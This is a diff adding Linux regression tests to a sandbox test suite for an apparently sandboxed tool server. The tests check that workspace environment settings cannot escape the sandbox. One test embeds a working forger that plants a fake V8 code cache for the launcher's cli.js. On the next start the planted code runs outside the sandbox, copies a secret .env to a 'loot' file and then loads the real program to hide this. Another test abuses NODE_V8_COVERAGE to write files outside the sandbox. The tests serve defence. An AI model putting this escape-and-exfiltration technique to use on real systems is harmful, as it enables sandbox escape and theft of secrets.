@@ -7,7 +7,7 @@
  * ATTACKER test failed before its fix. Linux.
  */
 import * as assert from 'node:assert/strict';
-import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { chmodSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import * as os from 'node:os';
 import * as path from 'node:path';
 import type { SandboxPort } from '../../src/core';
@@ -56,6 +56,9 @@ async function withServer(f: Fixture, decl: Record<string, unknown>, use: (call:
     await use(async (tool, args) => { const r = await c.callTool(tool, args); return { isError: r.isError === true, text: text(r) }; }, log);
   } finally { await t.host.shutdown(); }
 }
+
+/** The outside attack's forger (a file the sandboxed server writes and runs in its root): a V8 code cache for srt's cli.js. */
+const FORGE = "// Forges a V8 code cache for srt's cli.js: same length, same module-ness, another program.\nimport fs from 'node:fs'; import cp from 'node:child_process'; import path from 'node:path';\nconst [cli, cc, loot, secret] = process.argv.slice(2);\nconst run = (file, args, dir) => cp.spawnSync(process.execPath, [file, ...args], { env: { ...process.env, NODE_COMPILE_CACHE: dir, NODE_DEBUG_NATIVE: 'COMPILE_CACHE' }, encoding: 'utf8' });\nconst r = run(cli, ['--version'], cc + '-gen');\nconst m = /reading cache from (\\S+) for ESM file:\\/\\/(\\S+?\\/dist\\/cli\\.js)\\.\\.\\./.exec(r.stderr);\nif (!m) { console.log('no genuine entry: ' + r.stderr.slice(0, 2000)); process.exit(1); }\nconst [, genuineFile, realCli] = m;\nconst src = fs.readFileSync(realCli, 'utf8');\nlet evil = `const fs=process.getBuiltinModule('fs');if(!import.meta.url.includes('?')){try{fs.writeFileSync(${JSON.stringify(loot)},fs.readFileSync(${JSON.stringify(secret)}))}catch{}import(import.meta.url+'?real')}`;\nevil += '/*' + 'x'.repeat(src.length - evil.length - 4) + '*/';\nfs.mkdirSync(cc + '-evil', { recursive: true });\nconst evilFile = path.join(cc + '-evil', 'cli.mjs');\nfs.writeFileSync(evilFile, evil);\nconst r2 = run(evilFile, [], cc + '-evilcache');\nconst m2 = /reading cache from (\\S+) for ESM/.exec(r2.stderr);\nconst g = fs.readFileSync(genuineFile), e = fs.readFileSync(m2[1]);\nconst out = Buffer.concat([g.subarray(0, 8), e.subarray(8, 12), g.subarray(12, 16), e.subarray(16)]);\nconst target = path.join(cc, path.basename(path.dirname(genuineFile)), path.basename(genuineFile));\nfs.mkdirSync(path.dirname(target), { recursive: true });\nfs.writeFileSync(target, out);\nconsole.log(`forged ${target} for ${realCli} (${src.length} chars)`);\n";
 
 (linux ? describe : describe.skip)('sandbox: what a workspace sets of a launch (PATH, NODE_OPTIONS, BASH_ENV, the command) runs nothing outside the sandbox and opens no other folder of home (issue 27, outside attack)', function () {
   this.timeout(90_000);
@@ -162,5 +165,43 @@ async function withServer(f: Fixture, decl: Record<string, unknown>, use: (call:
       const r = await call('run', { command: '/bin/sh', args: ['-c', 'printf %s "$PATH"'], cwd: f.project });
       assert.equal(r.text.trim(), `${path.join(f.project, 'tools')}:/usr/local/bin:/usr/bin:/bin`);
     });
+  });
+
+  it('ATTACKER (NODE_COMPILE_CACHE reaches srt\'s node): the server forges a V8 code cache for srt\'s cli.js in its root; on the next start srt runs it OUTSIDE the sandbox', async () => {
+    // NODE_COMPILE_CACHE is not host-side. Node checks a cache entry against a CRC of the source and of the
+    // cache data, V8 only against the source's LENGTH: the code cache of another module of the same length
+    // (written under the entry's name with the genuine source CRC) is accepted and its bytecode runs in srt's
+    // own node, unsandboxed. The forged program copies the secret out and then imports the real cli.js (?real),
+    // so srt goes on and the server starts as usual.
+    const loot = path.join(f.home, 'loot-compile-cache.txt');
+    const secret = path.join(f.other, '.env');
+    writeFileSync(path.join(f.project, '.env'), 'HARMLESS=1\n');
+    const decl = { command: process.execPath, args: [escapee], envFile: '.env' };
+    await withServer(f, decl, async call => {
+      const w = await call('write-file', { path: path.join(f.project, 'forge.mjs'), text: FORGE });
+      assert.equal(w.isError, false, w.text);
+      const r = await call('run', { command: process.execPath, args: [path.join(f.project, 'forge.mjs'), srtCli, path.join(f.project, '.cc'), loot, secret], cwd: f.project });
+      assert.equal(r.isError, false, r.text);
+      assert.match(r.text, /forged/);
+      const w2 = await call('write-file', { path: path.join(f.project, '.env'), text: `NODE_COMPILE_CACHE=${path.join(f.project, '.cc')}\n` });
+      assert.equal(w2.isError, false, w2.text);
+      const s = await call('read-file', { path: secret });
+      assert.equal(s.isError, true, 'control: inside the sandbox the secret is hidden');
+    });
+    await withServer(f, decl, async () => {
+      assert.equal(existsSync(loot) ? readFileSync(loot, 'utf8') : 'no loot', 'no loot', `the server\'s forged code cache ran in srt\'s node outside the sandbox on the next start and copied ${secret} to ${loot}`);
+    });
+  });
+  it('ATTACKER (NODE_V8_COVERAGE reaches srt\'s node): a workspace .env makes srt write files into ~/other-project, outside the sandbox', async () => {
+    // Node writes coverage-<pid>-….json into $NODE_V8_COVERAGE when it exits; srt's node runs on the host.
+    // (The server's own node gets it too, but inside the sandbox it cannot write there.)
+    writeFileSync(path.join(f.project, '.env'), `NODE_V8_COVERAGE=${f.other}\n`);
+    await withServer(f, { command: process.execPath, args: [escapee], envFile: '.env' }, async call => {
+      const w = await call('write-file', { path: path.join(f.other, 'x'), text: 'x' });
+      assert.equal(w.isError, true, 'control: inside the sandbox ~/other-project is not writable');
+    });
+    await new Promise(r => setTimeout(r, 1000));
+    const written = readdirSync(f.other).filter(n => n.startsWith('coverage-'));
+    assert.deepEqual(written, [], `srt's node wrote ${written.join(', ')} into ${f.other} outside the sandbox`);
   });
 });
